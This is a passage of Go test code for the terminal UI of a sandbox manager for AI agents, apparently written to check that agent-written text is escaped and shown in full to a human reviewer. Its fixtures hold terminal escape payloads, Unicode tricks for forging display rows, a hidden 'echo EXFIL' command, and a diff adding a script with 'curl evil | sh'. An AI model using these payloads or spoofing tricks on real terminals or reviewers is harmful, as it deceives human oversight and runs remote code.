package ui

import (
	"cmp"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/lipgloss"
	"github.com/charmbracelet/x/ansi"
	"github.com/muesli/termenv"

	"github.com/litterbox-dev/litterbox/activity"
	"github.com/litterbox-dev/litterbox/git"
	"github.com/litterbox-dev/litterbox/sandbox"
	"github.com/litterbox-dev/litterbox/sandbox/api"
)

// fakeService records the actions asked of it.
type fakeService struct {
	mu     sync.Mutex
	calls  []string
	actors []string // who each call acted as (activity.Actor)
	err    error
	// diff is the patch Diff holds, of files; tip the commit it shows.
	diff  string
	files []git.FileChange
	tip   string
	// requests are what NetRequests returns.
	requests []sandbox.NetRequest
}

func (f *fakeService) call(ctx context.Context, s string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.calls = append(f.calls, s)
	f.actors = append(f.actors, activity.Actor(ctx))
	return f.err
}

func (f *fakeService) called() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return strings.Join(f.calls, ",")
}

func (f *fakeService) OpenRepo(ctx context.Context, dir string) (*api.Repo, error) {
	return nil, f.call(ctx, "open "+dir)
}
func (f *fakeService) List(ctx context.Context, r *api.Repo) ([]api.Sandbox, error) {
	return nil, f.call(ctx, "list")
}
func (f *fakeService) Diff(ctx context.Context, r *api.Repo, name string, opts git.DiffOptions, w io.Writer) (*api.DiffResult, error) {
	list := &git.FileList{Files: f.files, Total: len(f.files)}
	for _, c := range f.files {
		list.Added, list.Deleted = list.Added+c.Added, list.Deleted+c.Deleted
	}
	res := &api.DiffResult{Name: name, Tip: cmp.Or(f.tip, strings.Repeat("7", 40)), Base: strings.Repeat("b", 40), Files: list, Empty: len(f.files) == 0}
	if opts.Hold != nil {
		res.Patch = git.NewPatchCutter(f.files, false, *opts.Hold)
		res.Patch.Write([]byte(f.diff))
		res.Patch.Close()
	}
	return res, f.call(ctx, "diff "+name)
}
func (f *fakeService) Pause(ctx context.Context, r *api.Repo, name string, force bool) (api.Outcome, error) {
	return api.Outcome{Name: name}, f.call(ctx, "pause "+name)
}
func (f *fakeService) Resume(ctx context.Context, r *api.Repo, name string) (api.Outcome, error) {
	return api.Outcome{Name: name}, f.call(ctx, "resume "+name)
}
func (f *fakeService) Merge(ctx context.Context, r *api.Repo, name, at string) (*api.MergeResult, error) {
	if err := f.call(ctx, "merge "+name+" at "+at[:4]); err != nil {
		return nil, err
	}
	return &api.MergeResult{Name: name, Into: "main", Files: []string{"a"}}, nil
}
func (f *fakeService) Apply(ctx context.Context, r *api.Repo, name, at string) (*api.ApplyResult, error) {
	return &api.ApplyResult{Name: name}, f.call(ctx, "apply "+name+" at "+at[:4])
}
func (f *fakeService) Delete(ctx context.Context, r *api.Repo, name string, force bool) (*api.DeleteReport, error) {
	return &api.DeleteReport{Name: name}, f.call(ctx, "delete "+name)
}
func (f *fakeService) Handle(ctx context.Context, r *api.Repo, name string) (*api.Handle, error) {
	return &api.Handle{}, f.call(ctx, "handle "+name)
}
func (f *fakeService) Milestone(ctx context.Context, h *api.Handle, message string) (*api.MilestoneResult, error) {
	return &api.MilestoneResult{Commit: "abc", Squashed: 2}, f.call(ctx, "milestone "+message)
}
func (f *fakeService) Exec(ctx context.Context, r *api.Repo, name string, o api.ExecOptions) (int, error) {
	return 0, f.call(ctx, "exec "+name)
}
func (f *fakeService) NetRequests(ctx context.Context, r *api.Repo, name string) ([]sandbox.NetRequest, int, error) {
	return f.requests, 0, f.call(ctx, "requests "+name)
}
func (f *fakeService) AnswerNet(ctx context.Context, r *api.Repo, name, host string, approve bool) (*sandbox.NetStatus, bool, sandbox.NetRequest, error) {
	verb := map[bool]string{true: "approve ", false: "refuse "}[approve]
	return &sandbox.NetStatus{}, true, sandbox.NetRequest{}, f.call(ctx, verb+name+" "+host)
}

const root = "/repo"

// changed is a text file's change of added and deleted lines.
func changed(path string, added, deleted int) git.FileChange {
	e := git.Entry{Mode: "100644", ID: strings.Repeat("1", 40)}
	return git.FileChange{RawChange: git.RawChange{Path: path, Old: e, New: e}, Added: added, Deleted: deleted}
}

// newTest is a model over a fake service and one repository, sized w x h,
// drawing without colour unless color is set.
func newTest(t *testing.T, w, h int, color bool) (*Model, *fakeService) {
	t.Helper()
	svc := &fakeService{}
	r := lipgloss.NewRenderer(io.Discard)
	r.SetColorProfile(termenv.Ascii)
	if color {
		r.SetColorProfile(termenv.ANSI256)
	}
	repo := &api.Repo{Git: &git.Repo{Root: root, CommonDir: t.TempDir()}}
	m := New(context.Background(), svc, Options{Repo: repo}, r)
	m.Update(tea.WindowSizeMsg{Width: w, Height: h})
	return m, svc
}

func sandboxes(names ...string) listMsg {
	var sbs []api.Sandbox
	for _, n := range names {
		sbs = append(sbs, api.Sandbox{Name: n, Status: api.StatusActive, Repo: root, Created: time.Now().Add(-time.Minute)})
	}
	return listMsg{sbs: sbs}
}

func keys(m *Model, ks ...string) tea.Cmd {
	var cmd tea.Cmd
	for _, k := range ks {
		var msg tea.KeyMsg
		switch k {
		case "enter":
			msg = tea.KeyMsg{Type: tea.KeyEnter}
		case "esc":
			msg = tea.KeyMsg{Type: tea.KeyEsc}
		case "tab":
			msg = tea.KeyMsg{Type: tea.KeyTab}
		case "down":
			msg = tea.KeyMsg{Type: tea.KeyDown}
		default:
			msg = tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(k)}
		}
		_, cmd = m.Update(msg)
	}
	return cmd
}

// checkScreen fails unless the view is exactly h rows of at most w cells,
// the keys on the last.
func checkScreen(t *testing.T, m *Model, w, h int) string {
	t.Helper()
	v := m.View()
	lines := strings.Split(v, "\n")
	if len(lines) != h {
		t.Errorf("%d rows drawn, want %d", len(lines), h)
	}
	for i, l := range lines {
		if lipgloss.Width(l) > w {
			t.Errorf("row %d is %d cells wide, over %d: %q", i, lipgloss.Width(l), w, l)
		}
	}
	if !strings.Contains(ansi.Strip(lines[len(lines)-1]), "? help") {
		t.Errorf("the last row is not the keys: %q", lines[len(lines)-1])
	}
	return v
}

// The screen fits the terminal, small or large, with few sandboxes or
// many, and the keys stay on the last row.
func TestScreenFits(t *testing.T) {
	for _, size := range [][2]int{{80, 24}, {200, 60}, {60, 15}} {
		for _, n := range []int{0, 3, 60} {
			m, _ := newTest(t, size[0], size[1], true)
			var names []string
			for i := range n {
				names = append(names, "sandbox-with-a-long-name-"+string(rune('a'+i%26))+strings.Repeat("x", i%7))
			}
			m.Update(sandboxes(names...))
			checkScreen(t, m, size[0], size[1])
			keys(m, "down", "down", "tab", "down")
			checkScreen(t, m, size[0], size[1])
		}
	}
}

// Without colour (NO_COLOR, or not a terminal) nothing but text is drawn,
// and what an agent wrote shows escaped, never as the sequence it is.
func TestNoColorAndEscaped(t *testing.T) {
	m, _ := newTest(t, 100, 30, false)
	m.Update(sandboxes("evil"))
	exit := 1
	hostile := activity.Event{Time: time.Now(), Sandbox: "evil", Kind: activity.KindCall, Tool: "bash", Args: "echo \x1b]0;pwned\x07\x1b[2J", Exit: &exit}
	m.Update(historyMsg{full: true, events: map[sbKey][]activity.Event{{root, "evil"}: {hostile}}})
	v := checkScreen(t, m, 100, 30)
	if strings.Contains(v, "\x1b") || strings.Contains(v, "\x07") {
		t.Errorf("the screen holds an escape or control byte: %q", v)
	}
	if !strings.Contains(v, `echo \033]0;pwned\a\033[2J`) {
		t.Errorf("the hostile argument is not shown escaped:\n%s", v)
	}
	if !strings.Contains(v, "> evil") {
		t.Errorf("the selection has no mark without colour:\n%s", v)
	}
	// An error quoting agent text is escaped on the status line too.
	m.Update(actionMsg{err: errors.New("bad \x1b[31mname")})
	if v := m.View(); strings.Contains(v, "\x1b") || !strings.Contains(v, `bad \033[31mname`) {
		t.Errorf("the error is not shown escaped: %q", v)
	}
}

// Live events show in the list and the selected sandbox's feed; one seen
// both in the history read and live shows once.
func TestLiveEvents(t *testing.T) {
	m, _ := newTest(t, 120, 30, false)
	m.Update(sandboxes("a", "b"))
	e1 := activity.Event{Time: time.Now(), PID: 7, Sandbox: "a", Kind: activity.KindCall, Tool: "write", Args: "x.go (3 bytes)"}
	m.Update(eventsMsg{repo: root, events: []activity.Event{e1}})
	m.Update(historyMsg{full: true, events: map[sbKey][]activity.Event{{root, "a"}: {e1}, {root, "b"}: nil}})
	e2 := activity.Event{Time: time.Now(), PID: 7, Sandbox: "a", Kind: activity.KindCall, Tool: "bash", Args: "go test ./..."}
	m.Update(eventsMsg{repo: root, events: []activity.Event{e2}})
	v := m.View()
	if strings.Count(v, "write  x.go") != 1 {
		t.Errorf("the write shows %d times in the feed, want once:\n%s", strings.Count(v, "write  x.go"), v)
	}
	if !strings.Contains(v, "bash  go test ./...") {
		t.Errorf("the live event is not shown:\n%s", v)
	}
	// With b selected, a's events show only as its row's last activity.
	keys(m, "down")
	if v := m.View(); strings.Count(v, "go test") != 1 || !strings.Contains(v, "Nothing recorded yet") {
		t.Errorf("b's feed:\n%s", v)
	}
}

// Merge, apply and delete ask first; no leaves everything as it was; yes
// runs the service's operation and says how it went. Merge and apply read
// the branch's commit and files first, to name them in the question.
func TestDestroyingActionsAskFirst(t *testing.T) {
	for _, k := range []string{"m", "a", "x", "X"} {
		m, svc := newTest(t, 100, 30, false)
		m.Update(sandboxes("work"))
		if cmd := keys(m, k); cmd != nil && (k == "x" || k == "X") {
			t.Errorf("%s ran before the question was answered", k)
		} else if cmd != nil {
			m.Update(cmd())
			if svc.called() != "diff work" {
				t.Errorf("%s: before the question, calls %q; want only the read", k, svc.called())
			}
			svc.calls = nil
		}
		if v := m.View(); !strings.Contains(v, "(y/n)") {
			t.Errorf("%s asks nothing:\n%s", k, v)
		}
		keys(m, "n")
		if cmd := keys(m, k); cmd != nil {
			m.Update(cmd())
			svc.calls = nil
		}
		cmd := keys(m, "y")
		if cmd == nil {
			t.Fatalf("%s: yes runs nothing", k)
		}
		msg := cmd()
		if svc.called() == "" || strings.Count(svc.called(), ",") != 0 {
			t.Errorf("%s: service calls %q, want one", k, svc.called())
		}
		m.Update(msg)
		if v := m.View(); !strings.Contains(v, "work") || m.status == "" {
			t.Errorf("%s: nothing said after it ran:\n%s", k, v)
		}
	}
}

// Pause runs at once; an error shows on the status line, the UI goes on.
func TestActionErrorShown(t *testing.T) {
	m, svc := newTest(t, 100, 30, false)
	m.Update(sandboxes("p"))
	svc.err = errors.New("Sandbox 'p' is stopped: start it")
	m.Update(keys(m, "p")())
	if !m.statusErr || !strings.Contains(m.View(), "is stopped: start it") {
		t.Errorf("the error is not on the screen:\n%s", m.View())
	}
	svc.err = nil
	keys(m, "n")
	for _, r := range "done it" {
		keys(m, string(r))
	}
	msg := keys(m, "enter")()
	m.Update(msg)
	if got := svc.called(); got != "pause p,handle p,milestone done it" {
		t.Errorf("calls = %q", got)
	}
}

// The diff view shows each file, coloured when colour is on, escaped, and
// ] jumps to the next file.
func TestDiffView(t *testing.T) {
	m, svc := newTest(t, 100, 20, true)
	svc.diff = "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-old\n+new \x1b[2J\n" +
		strings.Repeat("+more\n", 40) + "diff --git a/b.txt b/b.txt\n+++ b/b.txt\n+b\n"
	svc.files = []git.FileChange{changed("a.txt", 41, 1), changed("b.txt", 1, 0)}
	m.Update(sandboxes("d"))
	cmd := keys(m, "d")
	m.Update(cmd())
	v := checkScreen(t, m, 100, 20)
	if plain := ansi.Strip(v); !strings.Contains(plain, "2 file(s) changed, +42 -1") || !strings.Contains(plain, `new \033[2J`) {
		t.Errorf("the diff view:\n%s", v)
	}
	if !strings.Contains(v, "\x1b[") {
		t.Errorf("no colour with colour on")
	}
	keys(m, "]")
	if v := ansi.Strip(m.View()); !strings.Contains(v, "file 1/2: a.txt (+41 -1)") {
		t.Errorf("] did not jump to the first file:\n%s", v)
	}
	keys(m, "]")
	if v := ansi.Strip(m.View()); !strings.Contains(v, "file 2/2: b.txt") {
		t.Errorf("] did not jump to the next file:\n%s", v)
	}
	keys(m, "esc")
	if m.mode != mainView {
		t.Errorf("esc did not go back")
	}
}

// Changes in a burst ask the engine once, then once more after the gap.
func TestRefreshRateLimited(t *testing.T) {
	m, _ := newTest(t, 80, 24, false)
	m.Init()
	m.Update(sandboxes("a"))
	first := m.lastRefresh
	for range 10 {
		m.Update(changedMsg{})
	}
	if m.refreshing || !m.refreshScheduled || !m.lastRefresh.Equal(first) {
		t.Errorf("a burst of changes asked the engine at once (refreshing %v, scheduled %v)", m.refreshing, m.refreshScheduled)
	}
}

// Keys typed faster than the UI reads them arrive as one message of
// several runes: each still counts (n then x: the merge question answered
// no, the delete question asked).
func TestKeysTypedTogether(t *testing.T) {
	m, svc := newTest(t, 100, 30, false)
	m.Update(sandboxes("work"))
	m.Update(keys(m, "m")())
	svc.calls = nil
	m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("nx")})
	if m.dialog.kind != confirmDialog || !strings.HasPrefix(m.dialog.question, "Delete work") {
		t.Fatalf("after n and x typed together the question is %q", m.dialog.question)
	}
	_, cmd := m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("y")})
	if cmd == nil {
		t.Fatal("y ran nothing")
	}
	cmd()
	if svc.called() != "delete work" {
		t.Errorf("calls = %q", svc.called())
	}
}

// Every action runs as the UI's user: the service records its event with
// by "ui", not as the command line's or litterbox's own.
func TestActionsActAsTheUI(t *testing.T) {
	m, svc := newTest(t, 100, 30, false)
	m.Update(sandboxes("work"))
	for _, ks := range [][]string{{"p"}, {"r"}, {"m"}, {"y"}, {"a"}, {"y"}, {"x", "y"}, {"n", "m", "s", "g", "enter"}} {
		if cmd := keys(m, ks...); cmd != nil {
			m.Update(cmd())
		}
	}
	m.Update(keys(m, "s")) // the shell: tea.Exec runs it; run it here
	(&shellExec{ctx: m.ctx, svc: svc, r: m.opts.Repo, name: "work", stderr: io.Discard}).Run()
	if got := svc.called(); got != "pause work,resume work,diff work,merge work at 7777,diff work,apply work at 7777,delete work,handle work,milestone msg,exec work" {
		t.Fatalf("calls = %q", got)
	}
	for i, a := range svc.actors {
		if a != activity.ByUI {
			t.Errorf("call %q acted as %q, want %q", svc.calls[i], a, activity.ByUI)
		}
	}
}

// The service's own events show in the feed with who acted; the services
// column says the state each service's last event left it in.
func TestOperationEventsShown(t *testing.T) {
	m, _ := newTest(t, 160, 40, false)
	m.Update(sandboxes("op"))
	at := time.Now()
	exit := 3
	evs := []activity.Event{
		{Kind: activity.KindCreate, By: activity.ByMCP, Message: "image busybox:latest"},
		{Kind: activity.KindService, By: activity.ByLitterbox, Service: "web", Action: "start", Message: "autostart"},
		{Kind: activity.KindExec, By: activity.ByCLI, Args: "sh -c 'exit 3'", Action: "start"},
		{Kind: activity.KindExec, By: activity.ByCLI, Args: "sh -c 'exit 3'", Action: "end", Exit: &exit, Ms: 1200},
		{Kind: activity.KindSnapshot, By: activity.ByCLI, Message: "by hand", Commit: strings.Repeat("c", 40), Files: []string{"b.txt"}},
		{Kind: activity.KindService, By: activity.ByMCP, Service: "web", Action: "stop"},
		{Kind: activity.KindEgress, By: activity.ByMCP, Target: "example.com:80 (not in the allowlist)"},
		{Kind: activity.KindNet, By: activity.ByCLI, Action: "allow", Target: "example.com"},
		{Kind: activity.KindMerge, By: activity.ByUI, Target: "main", Commit: strings.Repeat("d", 40)},
	}
	for i := range evs {
		evs[i].Time, evs[i].Sandbox, evs[i].PID = at.Add(time.Duration(i)*time.Millisecond), "op", 9
	}
	m.Update(historyMsg{full: true, events: map[sbKey][]activity.Event{{root, "op"}: evs}})
	v := m.View()
	for _, want := range []string{
		"created  image busybox:latest  (by mcp)",
		`service web start  "autostart"  (by litterbox)`,
		"exec  sh -c 'exit 3'  started  (by cli)",
		"exec  sh -c 'exit 3'  exit 3  1.2s  (by cli)",
		`snapshot  "by hand"  -> cccccccccccc (1 file)  (by cli)`,
		"merged  into main  -> dddddddddddd  (by ui)",
		"refused connection to example.com:80 (not in the allowlist)  (by mcp)",
		"network: allow example.com  (by cli)",
		"web stopped; 1 refused",
	} {
		if !strings.Contains(v, want) {
			t.Errorf("the screen lacks %q:\n%s", want, v)
		}
	}
}

// An agent's command cannot draw a row of its own: text a terminal draws
// wider than the UI measured (skin-tone runs, soft hyphens, U+0600, zero
// width characters, U+2028) is escaped, so every row takes at most the
// width by the terminal's measure (wcwidth's) too, and the fake row never
// starts a line.
func TestForgedRowsByWidth(t *testing.T) {
	const w, h = 100, 30
	m, _ := newTest(t, w, h, true)
	m.Update(sandboxes("evil"))
	fake := "06:16:30  exec  make deploy  exit 0  4.8s  (by cli)"
	exit := 0
	var evs []activity.Event
	for i, pad := range []string{
		strings.Repeat("👍🏽", 40), strings.Repeat("a\u00ad", 60), strings.Repeat("\u0600", 60),
		strings.Repeat("\u200b", 80), "x\u2028" + fake, strings.Repeat("e\u0301", 60),
	} {
		evs = append(evs, activity.Event{Time: time.Now(), Seq: int64(i + 1), Sandbox: "evil", Kind: activity.KindCall, Tool: "bash", Args: "echo " + pad + fake, Exit: &exit})
	}
	m.Update(historyMsg{full: true, events: map[sbKey][]activity.Event{{root, "evil"}: evs}})
	for _, view := range []string{"feed", "detail"} {
		if view == "detail" {
			keys(m, "tab", "enter")
		}
		v := checkScreen(t, m, w, h)
		for i, l := range strings.Split(v, "\n") {
			if cw := ansi.StringWidthWc(l); cw > w {
				t.Errorf("%s: row %d takes %d cells in a terminal, over %d: %q", view, i, cw, w, ansi.Strip(l))
			}
			if strings.HasPrefix(strings.TrimSpace(ansi.Strip(l)), "06:16:30  exec") {
				t.Errorf("%s: the agent drew a row of its own: %q", view, ansi.Strip(l))
			}
		}
		for _, raw := range []string{"\u00ad", "\u0600", "\u200b", "\u2028", "\U0001f3fd", "\u0301", "\t"} {
			if strings.Contains(v, raw) {
				t.Errorf("%s: %q shown raw", view, raw)
			}
		}
	}
}

// Nor can a line of a file draw a "diff --git" row of its own in the diff
// view: the file list the human reads comes from git's own lines.
func TestForgedDiffRowByWidth(t *testing.T) {
	const w, h = 100, 30
	m, svc := newTest(t, w, h, true)
	svc.diff = "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -0,0 +1 @@\n+" +
		strings.Repeat("👍🏽", 30) + strings.Repeat("a\u00ad", 20) + "diff --git a/zz-evil.sh b/zz-evil.sh\n"
	svc.files = []git.FileChange{changed("a.txt", 1, 0)}
	m.Update(sandboxes("d"))
	m.Update(keys(m, "d")())
	v := m.View()
	for i, l := range strings.Split(v, "\n") {
		if cw := ansi.StringWidthWc(l); cw > w {
			t.Errorf("row %d takes %d cells in a terminal, over %d", i, cw, w)
		}
		if strings.HasPrefix(ansi.Strip(l), "diff --git a/zz-evil.sh") {
			t.Errorf("a line of the file drew a diff row of its own: %q", ansi.Strip(l))
		}
	}
}

// An event opened shows all of it: long text wraps, none is cut, and the
// view scrolls to its end, where a padded command hides what it runs.
func TestDetailWrapsAndScrolls(t *testing.T) {
	const w, h = 80, 20
	m, _ := newTest(t, w, h, false)
	m.Update(sandboxes("pad"))
	cmd := "echo " + strings.Repeat("x", 3000) + "; echo EXFIL > /tmp/exfil"
	e := activity.Bound(activity.Event{Time: time.Now(), Sandbox: "pad", Kind: activity.KindCall, Tool: "bash", Args: cmd, Output: "a\tb\n"})
	m.Update(historyMsg{full: true, events: map[sbKey][]activity.Event{{root, "pad"}: {e}}})
	keys(m, "enter") // on the list: opens the selected sandbox's newest event
	if m.mode != detailView {
		t.Fatalf("enter on the list did not open the event")
	}
	var all strings.Builder
	for _, l := range m.text.lines {
		if lipgloss.Width(l) > w {
			t.Errorf("a line of %d cells, cut at %d: %q", lipgloss.Width(l), w, l)
		}
		all.WriteString(l)
	}
	if got := all.String(); !strings.Contains(got, strings.Repeat("x", 1000)) || !strings.Contains(got, "; echo EXFIL > /tmp/exfil") {
		t.Errorf("the opened event lacks some of its text")
	}
	keys(m, "G")
	if v := checkScreen(t, m, w, h); !strings.Contains(v, "a       b") {
		t.Errorf("scrolled to the end, the view does not show it:\n%s", v)
	}
	keys(m, "esc")
	if m.mode != mainView || !m.feed.focused {
		t.Errorf("esc: mode %v, feed focused %v; want back on the activity", m.mode, m.feed.focused)
	}
}

// q and Ctrl-C quit from everywhere, as the help says: the list, an event
// opened, the diff, a question, the help; in a line being typed only
// Ctrl-C does (q is a letter there).
func TestQuitEverywhere(t *testing.T) {
	isQuit := func(cmd tea.Cmd) bool {
		if cmd == nil {
			return false
		}
		_, ok := cmd().(tea.QuitMsg)
		return ok
	}
	for _, k := range []string{"q", "ctrl+c"} {
		for _, before := range [][]string{nil, {"tab", "enter"}, {"d"}, {"m"}, {"?"}, {"n"}} {
			m, _ := newTest(t, 100, 30, false)
			m.Update(sandboxes("s"))
			m.Update(historyMsg{full: true, events: map[sbKey][]activity.Event{{root, "s"}: {{Time: time.Now(), Sandbox: "s", Kind: activity.KindPause}}}})
			keys(m, before...)
			msg := tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("q")}
			if k == "ctrl+c" {
				msg = tea.KeyMsg{Type: tea.KeyCtrlC}
			}
			_, cmd := m.Update(msg)
			want := k == "ctrl+c" || fmt.Sprint(before) != "[n]"
			if isQuit(cmd) != want {
				t.Errorf("%s after %v: quits %v, want %v", k, before, isQuit(cmd), want)
			}
		}
	}
}

// Names longer than the column keep their start and end, and the column
// grows until no two read the same.
func TestLongNamesDistinct(t *testing.T) {
	m, _ := newTest(t, 160, 30, false)
	a, b := "feature-login-page-rework-attempt-one", "feature-login-page-rework-attempt-two"
	m.Update(sandboxes(a, b, "x-"+strings.Repeat("m", 40)+"-same-end", "y-"+strings.Repeat("m", 40)+"-same-end"))
	v := m.View()
	seen := map[string]bool{}
	for _, l := range strings.Split(v, "\n")[2:6] {
		name := strings.Fields(strings.TrimPrefix(l, "> "))[0]
		if seen[name] {
			t.Errorf("two rows read %q:\n%s", name, v)
		}
		seen[name] = true
	}
	if !strings.Contains(v, "-one") || !strings.Contains(v, "-two") {
		t.Errorf("the names' ends are cut:\n%s", v)
	}
}

// An error's hint, at its end, shows however long the error: the status
// line takes more rows; it goes when another sandbox is selected.
func TestStatusKeepsHint(t *testing.T) {
	const w, h = 80, 24
	m, svc := newTest(t, w, h, false)
	m.Update(sandboxes("a-sandbox-with-a-name-long-enough-to-wrap-the-question", "b"))
	svc.err = errors.New("pause a: " + strings.Repeat("the engine said something long ", 6) + "\nsecond line; to fix: run `litterbox doctor`")
	m.Update(keys(m, "p")())
	v := checkScreen(t, m, w, h)
	if !strings.Contains(strings.Join(strings.Fields(v), " "), "to fix: run `litterbox doctor`") {
		t.Errorf("the hint is cut:\n%s", v)
	}
	// A question long enough to wrap shows whole, its (y/n) too.
	keys(m, "x")
	if v := m.View(); !strings.Contains(v, "(y/n)") || strings.Count(v, "\n") != h-1 {
		t.Errorf("the question is cut:\n%s", v)
	}
	keys(m, "n", "down")
	if v := checkScreen(t, m, w, h); strings.Contains(v, "engine said") {
		t.Errorf("the message about a outlives selecting b:\n%s", v)
	}
}

// A flood of events pushes no refused connection out of the feed: the
// refusal stays, above a row that says how many events are not shown.
func TestFeedKeepsRefusalsThroughFlood(t *testing.T) {
	m, _ := newTest(t, 140, 30, false)
	m.Update(sandboxes("f"))
	now := time.Now()
	m.Update(historyMsg{full: true, events: map[sbKey][]activity.Event{{root, "f"}: {
		{Time: now, Seq: 1, Sandbox: "f", Kind: activity.KindEgress, Target: "evil.example:443"},
	}}})
	var flood []activity.Event
	for i := range 1400 {
		flood = append(flood, activity.Event{Time: now, Seq: int64(i + 2), Sandbox: "f", Kind: activity.KindCall, Tool: "bash", Args: "true"})
	}
	m.Update(eventsMsg{repo: root, events: flood})
	m.Update(eventsMsg{repo: root, events: []activity.Event{{Time: now, Seq: 1500, Sandbox: "f", Kind: activity.KindCall, Tool: "bash", Args: "true"}}})
	keys(m, "tab", "g")
	v := m.View()
	if !strings.Contains(v, "refused connection to evil.example:443") {
		t.Errorf("the refusal is gone from the feed:\n%s", v)
	}
	if !regexp.MustCompile(`… \d+ events not shown here`).MatchString(v) {
		t.Errorf("no row says what is not shown:\n%s", v)
	}
}

// g pressed before the record is read (a long one, after a flood) is not
// lost: once it is read, the oldest event is the one selected, and new
// events do not take the cursor back to the newest.
func TestFeedTopBeforeLoad(t *testing.T) {
	m, _ := newTest(t, 140, 30, false)
	m.Update(sandboxes("f"))
	keys(m, "tab", "g")
	now := time.Now()
	var events []activity.Event
	for i := range 100 {
		events = append(events, activity.Event{Time: now, Seq: int64(i + 1), Sandbox: "f", Kind: activity.KindCall, Tool: "bash", Args: fmt.Sprintf("echo %d", i)})
	}
	m.Update(historyMsg{full: true, events: map[sbKey][]activity.Event{{root, "f"}: events}})
	m.Update(eventsMsg{repo: root, events: []activity.Event{{Time: now, Seq: 101, Sandbox: "f", Kind: activity.KindCall, Tool: "bash", Args: "echo new"}}})
	if v := m.View(); !regexp.MustCompile(`> \S+\s+bash +echo 0\b`).MatchString(v) {
		t.Errorf("the oldest event is not selected:\n%s", v)
	}
}

// A move up in a feed that was read and is empty (a sandbox with no
// activity yet) is no choice of an older event: the feed still follows
// the newest as events come.
func TestFeedEmptyKeepsFollowing(t *testing.T) {
	m, _ := newTest(t, 140, 30, false)
	m.Update(sandboxes("f"))
	m.Update(historyMsg{full: true, events: map[sbKey][]activity.Event{{root, "f"}: nil}})
	keys(m, "tab", "k")
	now := time.Now()
	for i := range 3 {
		m.Update(eventsMsg{repo: root, events: []activity.Event{{Time: now, Seq: int64(i + 1), Sandbox: "f", Kind: activity.KindCall, Tool: "bash", Args: fmt.Sprintf("echo %d", i)}}})
	}
	if v := m.View(); !regexp.MustCompile(`> \S+\s+bash +echo 2\b`).MatchString(v) {
		t.Errorf("the newest event is not selected:\n%s", v)
	}
}

// What m and a land is the commit the diff view showed, named with its
// files in the question, even when the branch moved since; the service's
// refusal then says to read it again.
func TestLandWhatTheDiffShowed(t *testing.T) {
	m, svc := newTest(t, 120, 30, false)
	m.Update(sandboxes("work"))
	svc.tip, svc.files = strings.Repeat("a", 40), []git.FileChange{changed("hello.txt", 1, 0)}
	svc.diff = "diff --git a/hello.txt b/hello.txt\n+hello\n"
	m.Update(keys(m, "d")())
	keys(m, "esc")
	// the agent adds a file after the diff was read
	svc.tip, svc.files = strings.Repeat("b", 40), []git.FileChange{changed("hello.txt", 2, 0), changed("postinstall.sh", 2, 0)}
	svc.calls = nil
	if cmd := keys(m, "m"); cmd != nil {
		t.Fatal("m read the branch again instead of asking about the commit shown")
	}
	if q := m.dialog.question; !strings.Contains(q, "Merge work at aaaaaaaaaaaa (1 file, as the diff showed), then delete it?") {
		t.Errorf("the question: %q", q)
	}
	if v := m.View(); !strings.Contains(v, "(y/n)") {
		t.Errorf("the question does not fit:\n%s", v)
	}
	m.Update(keys(m, "y")())
	if got := svc.called(); got != "merge work at aaaa" {
		t.Errorf("calls = %q, want the merge of the commit shown", got)
	}
	// refused as moved: said so, with what to do
	svc.calls, svc.err = nil, fmt.Errorf("cannot: %w", api.ErrMoved)
	keys(m, "a")
	if q := m.dialog.question; !strings.Contains(q, "Apply work at aaaaaaaaaaaa (1 file, as the diff showed), uncommitted?") {
		t.Errorf("the question: %q", q)
	}
	m.Update(keys(m, "y")())
	if v := m.View(); !strings.Contains(v, "nothing was applied: work moved since aaaaaaaaaaaa") || !strings.Contains(v, "press d") {
		t.Errorf("the refusal:\n%s", v)
	}
	// from the diff view itself, the same
	svc.calls, svc.err = nil, nil
	m.Update(keys(m, "d")())
	keys(m, "m")
	if q := m.dialog.question; !strings.Contains(q, "Merge work at bbbbbbbbbbbb (2 files, as the diff showed)") {
		t.Errorf("the question from the diff view: %q", q)
	}
}

// Every cut the diff view makes says so and names what it left out: lines
// past a file's share, the end of a long line, a file never read; every
// file is listed, with its counts and mode, whatever came before it.
func TestDiffViewNamesEveryCut(t *testing.T) {
	m, svc := newTest(t, 160, 40, false)
	m.Update(sandboxes("big"))
	var b strings.Builder
	b.WriteString("diff --git a/0-big.txt b/0-big.txt\nnew file mode 100644\n--- /dev/null\n+++ b/0-big.txt\n@@ -0,0 +1,60000 @@\n")
	for range 60000 {
		b.WriteString("+x\n")
	}
	b.WriteString("diff --git a/long.txt b/long.txt\n--- a/long.txt\n+++ b/long.txt\n@@ -1 +1 @@\n-a\n+" + strings.Repeat("L", 1<<20) + "\n")
	b.WriteString("diff --git a/zz-evil.sh b/zz-evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/zz-evil.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil | sh\n")
	svc.diff = b.String()
	evil := changed("zz-evil.sh", 2, 0)
	evil.Old, evil.New.Mode = git.Entry{}, "100755"
	big := changed("0-big.txt", 60000, 0)
	big.Old = git.Entry{}
	svc.files = []git.FileChange{big, changed("long.txt", 1, 1), evil}
	m.Update(keys(m, "d")())
	v := m.View()
	for _, want := range []string{
		"3 file(s) changed, +60003 -1",
		"Not all shown here (`litterbox diff big` shows all of it); left out:",
		"0-big.txt: ",
		" of 60005 line(s)",
		"long.txt: the end of 1 long line(s), 1048065 byte(s)",
	} {
		if !strings.Contains(v, want) {
			t.Errorf("the view lacks %q:\n%s", want, v)
		}
	}
	keys(m, "]", "]")
	if v := m.View(); !strings.Contains(v, "file 2/3: long.txt (+1 -1)") || !strings.Contains(v, "[… 1048065 more byte(s) of the line above not shown]") {
		t.Errorf("the long line:\n%s", v)
	}
	keys(m, "]")
	if v := m.View(); !strings.Contains(v, "file 3/3: zz-evil.sh (new, mode 100755, +2 -0)") || !strings.Contains(v, "+curl evil | sh") {
		t.Errorf("the file after the big ones:\n%s", v)
	}
